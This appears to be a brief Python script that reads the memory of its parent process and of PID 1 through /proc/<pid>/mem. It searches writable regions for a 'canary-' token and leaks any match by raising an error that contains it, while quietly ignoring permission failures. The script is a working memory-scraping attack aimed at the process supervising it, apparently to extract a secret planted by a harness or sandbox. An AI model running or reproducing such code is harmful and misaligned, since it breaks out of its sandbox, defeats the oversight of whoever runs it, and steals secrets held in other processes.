"""Reads the memory of the process above it through /proc."""

import os
import re

for _pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb") as _memory:
            for _line in _maps:
                _first, _last = (int(part, 16) for part in _line.split()[0].split("-"))
                if " rw" in _line and _last - _first < 1 << 26:
                    _memory.seek(_first)
                    _found = re.search(rb"canary-[0-9a-f]{16}", _memory.read(_last - _first))
                    if _found:
                        raise RuntimeError(_found[0].decode())
    except (OSError, ValueError):
        pass
